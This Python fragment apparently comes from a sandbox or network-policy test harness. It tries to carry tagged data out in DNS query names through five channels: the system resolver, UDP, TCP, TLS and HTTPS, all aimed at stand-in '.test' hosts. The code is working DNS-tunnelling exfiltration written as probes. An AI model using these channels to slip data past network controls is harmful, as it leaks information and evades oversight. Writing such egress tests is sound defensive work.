"""Sends data in DNS queries, in every way that reaches a resolver."""


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def answer_word(answer):
    return "answered" if struct.unpack("!H", answer[6:8])[0] else "no such name"


for kind, suffix in [("denied", "denied.test"), ("unlisted", "data.test")]:

    @attempt(f"data in a {kind} name, by the system")
    def _(suffix=suffix):
        socket.getaddrinfo(f"{tag}-system.{suffix}", 80)
        return "answered"

    @attempt(f"data in a {kind} name, to another resolver")
    def _(suffix=suffix):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(SECONDS)
            datagrams.sendto(question(f"{tag}-datagram.{suffix}"), (other, 53))
            return answer_word(datagrams.recv(512))

    @attempt(f"data in a {kind} name, to another resolver by TCP")
    def _(suffix=suffix):
        with socket.create_connection((other, 53), SECONDS) as stream:
            query = question(f"{tag}-stream.{suffix}")
            stream.sendall(struct.pack("!H", len(query)) + query)
            return answer_word(stream.recv(512)[2:])

    @attempt(f"data in a {kind} name, to a resolver over TLS")
    def _(suffix=suffix):
        with socket.create_connection((other, 853), SECONDS) as plain:
            stream = ssl.create_default_context().wrap_socket(plain, server_hostname="denied.test")
            query = question(f"{tag}-tls.{suffix}")
            stream.sendall(struct.pack("!H", len(query)) + query)
            return answer_word(stream.recv(512)[2:])

    @attempt(f"data in a {kind} name, to a resolver over HTTPS")
    def _(suffix=suffix):
        query = base64.urlsafe_b64encode(question(f"{tag}-https.{suffix}")).decode().rstrip("=")
        return answer_word(urllib.request.urlopen(f"https://denied.test/?dns={query}", timeout=SECONDS).read())
